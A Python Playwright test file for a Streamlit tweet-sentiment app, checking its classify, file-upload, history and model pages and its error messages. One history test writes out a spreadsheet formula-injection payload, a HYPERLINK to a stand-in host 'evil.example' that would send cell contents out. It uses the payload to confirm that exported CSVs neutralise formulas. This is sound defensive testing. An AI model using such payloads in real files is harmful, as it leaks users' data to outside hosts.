"""The UI in Debian's Chromium, against a real API: each page, a file round trip, and the error messages.

Screenshots of every page are saved under reports/ui/ for a reviewer.
"""
from __future__ import annotations

import csv
import datetime
import os
import re
import shutil
import subprocess
import threading

from zoneinfo import ZoneInfo

import pandas as pd
import pytest
from playwright.sync_api import Locator, Page, expect

from tests.servers.ports import free_port, wait_until
from tests.ui.conftest import API_KEY, BROWSER_ZONE, SCREENSHOTS
from ui.wording import comparison_sentences, version_label

LABELS = {"negative", "neutral", "positive"}
MAIN = "[data-testid=stMain]"


@pytest.fixture(scope="module")
def tweets(raw_path) -> pd.DataFrame:
    return pd.read_csv(raw_path, sep="\t", header=None, names=["id", "rating", "text"], quoting=csv.QUOTE_NONE,
                       dtype=str)


def settle(page: Page) -> None:
    """Streamlit has finished this run: no "running" widget, no element left over from the last run, no exception."""
    expect(page.get_by_test_id("stStatusWidget")).to_have_count(0)
    expect(page.locator("[data-testid=stElementContainer][data-stale=true]")).to_have_count(0)
    expect(page.get_by_test_id("stException")).to_have_count(0)


def screenshot(page: Page, name: str) -> None:
    """The whole page: Streamlit scrolls inside its own container, so grow the window to its height first.

    Never waits on geometry (a chart that re-lays itself out at the new width may change the height, which
    once made a wait for "the page fits" time out): the window is sized twice, then the shot is taken.
    """
    for _ in range(2):
        settle(page)
        height = page.evaluate(f"() => document.querySelector('{MAIN}').scrollHeight")
        page.set_viewport_size({"width": 1280, "height": min(max(height, 900), 5000)})
    settle(page)
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=SCREENSHOTS / f"{name}.png")


def open_page(page: Page, url: str, title: str) -> None:
    """Load a page and wait for its heading. A first load that never starts a Streamlit session is reloaded once, as
    a person would: in clean-clone CI runs a page opened just after its server started showed nothing for 90 s while
    the app's script never ran (the API's log had no /health call from it); the reload is then answered at once."""
    page.goto(url)
    heading = page.get_by_role("heading", name=title)
    try:
        expect(heading).to_be_visible(timeout=30_000)
    except AssertionError:
        page.reload()
        expect(heading).to_be_visible()
    settle(page)


def choose(page: Page, label: str, option: str) -> None:
    """Pick an option in the Streamlit selectbox labelled `label`."""
    page.get_by_test_id("stSelectbox").filter(has_text=label).click()
    page.get_by_role("option", name=option, exact=True).click()
    settle(page)


def classify(page: Page, text: str) -> None:
    page.get_by_test_id("stTextArea").locator("textarea").fill(text)
    page.get_by_role("button", name="Classify").click()


def upload(page: Page, path, shows: Locator) -> None:
    """Upload a file and wait until the page `shows` what the upload leads to. (Streamlit's code chunks that the
    upload draws once failed to load here with net::ERR_NETWORK_CHANGED; tests/ui/conftest.py now fetches every
    static file through Playwright's driver, see _fetched_by_playwright.)"""
    page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(path)
    expect(shows).to_be_visible()


def alert(page: Page, text: str | re.Pattern):
    return page.get_by_test_id("stAlert").filter(has_text=text)


def test_a_typed_tweet_shows_its_label_class_probabilities_and_model_version(page, ui_url, api, tweets):
    text = tweets["text"].iloc[1]
    expected = api.predict(text)
    open_page(page, ui_url, "Classify a tweet")
    version = version_label(expected["model_version"])
    assert version != expected["model_version"]  # the session's run id is a time: it reads as one
    expect(page.get_by_test_id("stSidebar")).to_contain_text(f"Connected · model of {version} · in production "
                                                             "(champion)")
    classify(page, text)
    expect(page.get_by_test_id("stMetric").first).to_contain_text(expected["label"])
    confidence = expected["probabilities"][expected["label"]]
    expect(page.get_by_test_id("stMetric").nth(1)).to_contain_text(f"{confidence:.1%}")
    expect(page.get_by_test_id("stMain").get_by_test_id("stCaptionContainer")).to_contain_text(
        f"Model of {version} · request ")
    chart = page.get_by_test_id("stVegaLiteChart")
    expect(chart.locator("canvas, svg").first).to_be_visible()
    for label in LABELS:  # one bar per class, labelled on the axis
        expect(chart).to_contain_text(label)
    screenshot(page, "predict")


def test_an_uploaded_csv_is_classified_charted_and_downloaded_with_every_row(page, ui_url, api, tweets, tmp_path):
    sample = tweets.head(1200).copy()
    sample.loc[[7, 11], "text"] = ["", "\u200b"]  # blank rows, one of an invisible character: reported, not sent
    path = tmp_path / "tweets.csv"
    sample.to_csv(path, index=False)
    open_page(page, ui_url + "/file", "Classify a file")
    column = page.get_by_role("combobox", name="Text column")
    upload(page, path, shows=column)
    expect(column).to_have_value("text")
    settle(page)  # the run the upload started has finished: its button is there, or its exception says why not
    page.get_by_role("button", name="Classify 1,200 rows").click()
    expect(alert(page, "2 rows had no text and were not classified (rows 8, 12).")).to_be_visible()
    version = api.health()["model_version"]
    expect(alert(page, f"Classified 1,198 texts with the model of {version_label(version)}.")).to_be_visible()
    charts = page.get_by_test_id("stVegaLiteChart")
    expect(charts).to_have_count(2)
    expect(charts.first).to_contain_text("Labels")
    expect(charts.nth(1)).to_contain_text("Confidence")
    table = page.get_by_test_id("stDataFrame").last  # the results (the first: the upload's preview)
    table.hover()  # its toolbar: Streamlit's own CSV export would write formulas as they are, so it is off
    expect(table.get_by_role("button", name="Search")).to_be_visible()
    expect(table.get_by_role("button", name="Download as CSV")).to_have_count(0)
    with page.expect_download() as download:
        page.get_by_test_id("stDownloadButton").get_by_role("button").click()
    assert download.value.suggested_filename == "tweets-predictions.csv"
    download.value.save_as(tmp_path / "results.csv")
    screenshot(page, "file")

    results = pd.read_csv(tmp_path / "results.csv", dtype={"text": str, "id": str, "rating": str})
    kept = sample.drop(index=[7, 11])
    assert len(results) == 1198
    assert results.columns.tolist() == ["row", "id", "rating", "text", "label", "confidence", "p_negative",
                                        "p_neutral", "p_positive", "model_version"]  # the file's own columns kept
    assert results["row"].tolist() == [i + 1 for i in kept.index]
    assert results["id"].tolist() == kept["id"].tolist() and results["rating"].tolist() == kept["rating"].tolist()
    # A tweet a spreadsheet would run as a formula (the 363 replies that begin with @) has an apostrophe first.
    assert sum(kept["text"].str.startswith("@")) == 363
    assert results["text"].tolist() == [("'" if text.startswith(("=", "+", "-", "@")) else "") + text
                                        for text in kept["text"]]
    assert set(results["label"]) == LABELS
    assert results["label"].tolist() == [p["label"] for p in api.predict_batch(kept["text"].tolist()).predictions]
    assert (results["model_version"] == version).all()


def test_history_lists_recent_predictions_in_the_browsers_time_zone_filters_by_label_and_downloads(
        page_in_tokyo, ui_url, api, tweets, tmp_path):
    page = page_in_tokyo
    before = api.predictions(limit=1)["total"]
    attack = '=HYPERLINK("http://evil.example/?"&A1,"I hate this awful day")'  # anyone may call the API
    sent = api.predict_batch([*tweets["text"].iloc[200:260], attack])
    assert sent.predictions[-1]["label"] == "negative"
    wait_until(lambda: api.predictions(limit=1)["total"] >= before + 61, timeout=30, what="history records")
    since = (datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(days=1)).isoformat()
    latest = api.predictions(since=since, limit=1)
    total = latest["total"]
    newest = datetime.datetime.fromisoformat(latest["items"][0]["created_at"]).astimezone(ZoneInfo(BROWSER_ZONE))
    open_page(page, ui_url + "/history", "Prediction history")
    expect(page.get_by_text(f"Showing the {min(total, 1000):,} most recent of {total:,} matching predictions. "
                            f"Times are in {BROWSER_ZONE}, your browser's time zone; the newest is "
                            f"{newest.day} {newest:%b %Y, %H:%M:%S}.")).to_be_visible()
    expect(page.get_by_test_id("stVegaLiteChart")).to_contain_text("Labels over time")
    expect(page.get_by_test_id("stVegaLiteChart")).to_contain_text(f"time ({BROWSER_ZONE})")
    screenshot(page, "history")

    choose(page, "Label", "negative")
    negative = api.predictions(label="negative", since=since, limit=1)["total"]
    assert negative > 0
    expect(page.get_by_text(f"Showing the {min(negative, 1000):,} most recent of {negative:,} matching predictions. "
                            f"Times are in {BROWSER_ZONE}")).to_be_visible()
    settle(page)  # the download button of the unfiltered run stays on screen until this run replaces it
    with page.expect_download() as download:
        page.get_by_test_id("stDownloadButton").get_by_role("button").click()
    download.value.save_as(tmp_path / "history.csv")
    history = pd.read_csv(tmp_path / "history.csv")
    assert len(history) == min(negative, 1000) and set(history["label"]) == {"negative"}
    assert "'" + attack in history["text"].tolist()  # shown as text by a spreadsheet, not run
    assert not history["text"].str.match(r"[=+\-@]").any()


def test_model_page_speaks_plainly_says_it_is_in_production_and_folds_away_the_technical_details(page, ui_url, api):
    manifest = api.model()
    assert manifest["served"]["champion"] is True  # the session's bundle is its project's published champion
    version = version_label(manifest["run_id"])
    open_page(page, ui_url + "/model", "The model")
    metrics = page.get_by_test_id("stMetric")
    expect(metrics).to_have_count(4)
    expect(metrics.nth(0)).to_contain_text(version)
    expect(metrics.nth(1)).to_contain_text("in production (champion)")
    expect(metrics.nth(2)).to_contain_text(f"{manifest['metrics']['macro_f1']:.3f}")
    expect(metrics.nth(3)).to_contain_text(f"{manifest['metrics']['accuracy']:.1%}")
    expect(alert(page, "This model is in production: it is the published champion, which passed every check "
                       "before it was released.")).to_be_visible()
    expect(page.get_by_test_id("stSidebar")).to_contain_text(f"model of {version} · in production (champion)")
    main = page.get_by_test_id("stMain")
    for sentence in comparison_sentences(manifest):  # one per comparison, each saying what it is
        expect(main.get_by_text(sentence, exact=True)).to_be_visible()
    assert not manifest["ablation"]["used"]  # so the model and "without pseudo-labels" are one: equal bars, said so
    expect(main).to_contain_text("no unlabelled tweet was confident enough to be pseudo-labelled, so the two are "
                                 "one model and their bars are equal.")
    table, chart = page.get_by_test_id("stTable"), page.get_by_test_id("stVegaLiteChart")
    expect(chart).to_contain_text("Balanced score: higher is better")
    for name in ("this model", "the lexicon rule VADER", "always the most common label",
                 "the same model without pseudo-labels"):
        expect(table).to_contain_text(name)
        expect(chart).to_contain_text(name)  # in full, not cut short
    for raw in ("macro_f1", "supervised_only", "vader_compound", "majority_class"):
        expect(main).not_to_contain_text(raw)  # no raw keys anywhere

    card = page.get_by_test_id("stMarkdown").filter(has_text="Intended use")
    expect(card.first).to_be_visible()
    data_hash = manifest["data"]["sha256"]
    details = page.get_by_test_id("stExpander")
    expect(details).to_have_count(1)
    expect(details).to_contain_text("Technical details: file hashes, paths and versions")
    expect(details.get_by_text(manifest["served"]["digest"]).first).to_be_hidden()  # folded until asked for
    screenshot(page, "model")
    details.get_by_text("Technical details").click()
    expect(details.get_by_text(manifest["served"]["digest"]).first).to_be_visible()
    expect(details.get_by_text(data_hash).first).to_be_visible()
    expect(details).to_contain_text(f"run id {manifest['run_id']}")


def test_bad_input_gets_a_readable_message_in_the_page(page, ui_url, tweets, tmp_path):
    open_page(page, ui_url, "Classify a tweet")
    classify(page, "z" * 1001)
    expect(alert(page, "Text has 1,001 characters; the limit is 1,000.")).to_be_visible()
    settle(page)

    open_page(page, ui_url + "/file", "Classify a file")
    sample = tweets.head(1200).copy()
    sample.loc[7, "text"] = ""  # not sent: the API's index of each later text is one less than its row's
    sample.loc[1099, "text"] = "z" * 1001  # in the second request of 1,000 texts
    sample.loc[1149, "text"] = "a\0b"  # and another in it: both are named, each on its line
    sample.to_csv(tmp_path / "long.csv", index=False)
    classify_all = page.get_by_role("button", name="Classify 1,200 rows")
    upload(page, tmp_path / "long.csv", shows=classify_all)
    classify_all.click()
    # Set aside, each with the API's sentence; the other rows are classified
    refused = alert(page, "2 rows the API refused were not classified")
    expect(refused.locator("p")).to_have_text([
        "2 rows the API refused were not classified; fix them and classify the file again:",
        "Row 1100: Text has 1,001 characters; the limit is 1,000.",
        "Row 1150: Text has a NUL character (U+0000) at character 1; remove it."])
    expect(alert(page, "Classified 1,197 texts with the model of")).to_be_visible()
    expect(alert(page, "1 row had no text and was not classified (row 8).")).to_be_visible()
    settle(page)
    pd.DataFrame({"text": ["a\0b", "z" * 1001]}).to_csv(tmp_path / "all-bad.csv", index=False)
    upload(page, tmp_path / "all-bad.csv", shows=page.get_by_role("button", name="Classify 2 rows"))
    page.get_by_role("button", name="Classify 2 rows").click()
    expect(alert(page, "The API refused every text").locator("p")).to_have_text([
        "The API refused every text; nothing was classified.",
        "Row 1: Text has a NUL character (U+0000) at character 1; remove it.",
        "Row 2: Text has 1,001 characters; the limit is 1,000."])
    expect(alert(page, re.compile(r"^Classified [\d,]+ texts"))).to_have_count(0)  # no results drawn from nothing
    settle(page)
    tweets[["id", "rating"]].head(30).to_csv(tmp_path / "scores.csv", index=False)
    no_text = "scores.csv has no text column (its columns: id, rating); add a column holding the tweets."
    upload(page, tmp_path / "scores.csv", shows=alert(page, no_text))
    settle(page)
    (tmp_path / "empty.csv").write_bytes(b"")
    upload(page, tmp_path / "empty.csv", shows=alert(page, "empty.csv is empty; upload a file with one tweet per row."))
    screenshot(page, "file-error")


def test_an_api_that_is_down_or_refuses_the_key_is_explained_in_the_page(page, start_ui, api_server):
    down = f"http://127.0.0.1:{free_port()}"
    message = f"Cannot reach the API at {down}; check that it is running and that API_URL points to it."
    open_page(page, start_ui(down, API_KEY), "Classify a tweet")
    expect(page.get_by_test_id("stSidebar").get_by_test_id("stAlert")).to_have_text(message)
    classify(page, "is anyone there?")
    expect(page.get_by_test_id("stMain").get_by_test_id("stAlert")).to_have_text(message)
    screenshot(page, "api-down")

    open_page(page, start_ui(api_server.url, "not-the-key") + "/model", "The model")
    expect(alert(page, "The API refused the request: the API key is not valid. Set TWEETOPS_API_KEY")).to_be_visible()
    expect(page.get_by_test_id("stMetric")).to_have_count(0)  # nothing is drawn from a refusal


@pytest.fixture
def network_changes():
    """The machine's network changing while a test runs: a veth pair with an address added and removed every
    0.1 s (what Docker does as containers come and go, and what a clean-clone CI machine did by itself). Chromium
    fails every request in flight with net::ERR_NETWORK_CHANGED then. Needs root and iproute2."""
    name = f"tw{os.getpid() % 10**6}"
    tried = subprocess.run(["ip", "link", "add", name, "type", "veth", "peer", "name", f"{name}p"],
                           capture_output=True, text=True) if shutil.which("ip") else None
    if tried is None or tried.returncode != 0:
        pytest.skip(f"cannot add a network interface here ({tried.stderr.strip() if tried else 'no ip command'})")
    subprocess.run(["ip", "link", "del", name], capture_output=True)
    stop, changes = threading.Event(), []

    def churn():
        while not stop.is_set():
            for command in (["link", "add", name, "type", "veth", "peer", "name", f"{name}p"],
                            ["addr", "add", "10.231.0.1/30", "dev", name], ["link", "set", name, "up"]):
                subprocess.run(["ip", *command], capture_output=True)
            stop.wait(0.1)
            subprocess.run(["ip", "link", "del", name], capture_output=True)
            changes.append(1)
            stop.wait(0.1)

    thread = threading.Thread(target=churn, daemon=True)
    thread.start()
    yield changes
    stop.set()
    thread.join()


def test_pages_load_whole_while_the_machines_network_changes(page, ui_url, tweets, tmp_path, network_changes):
    """Every static file is fetched by Playwright's driver (tests/ui/conftest.py), which does not watch the machine's
    network: without that, this churn failed Streamlit's code chunks with ERR_NETWORK_CHANGED."""
    tweets.head(50).to_csv(tmp_path / "fifty.csv", index=False)
    for _ in range(2):
        open_page(page, ui_url + "/file", "Classify a file")
        classify_all = page.get_by_role("button", name="Classify 50 rows")
        upload(page, tmp_path / "fifty.csv", shows=classify_all)
        classify_all.click()
        expect(alert(page, "Classified 50 texts with the model of")).to_be_visible()
        expect(page.get_by_test_id("stVegaLiteChart")).to_have_count(2)
        open_page(page, ui_url + "/history", "Prediction history")
        expect(page.get_by_test_id("stVegaLiteChart")).to_contain_text("Labels over time")
    assert len(network_changes) > 10
    assert not [f for f in page.failures if "ERR_NETWORK_CHANGED" in f], page.failures
